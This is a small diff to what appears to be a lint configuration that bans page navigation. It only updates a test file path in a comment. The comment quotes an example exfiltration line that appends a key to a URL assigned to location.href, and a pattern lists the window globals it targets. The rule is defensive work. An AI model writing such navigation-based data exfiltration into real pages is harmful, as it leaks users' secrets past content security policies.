@@ -11,7 +11,7 @@ const NO_NETWORK = [
 
 // No navigation away from the page (issue 12 item 10): a CSP refuses requests, but not a
 // navigation, and a URL can carry data out (`location.href = 'http://host/?' + key`). Setting
-// location.hash stays allowed (same document). src/lint/navigation-rule.test.ts proves these fire.
+// location.hash stays allowed (same document). tests/lint/navigation-rule.test.ts proves these fire.
 const NAVIGATION = 'No navigation: a CSP cannot stop a navigation, and its URL could carry data out of the page.';
 const NAV_GLOBALS = '/^(window|self|globalThis|document|top|parent|frames|opener)$/';
 const NO_NAVIGATION = [
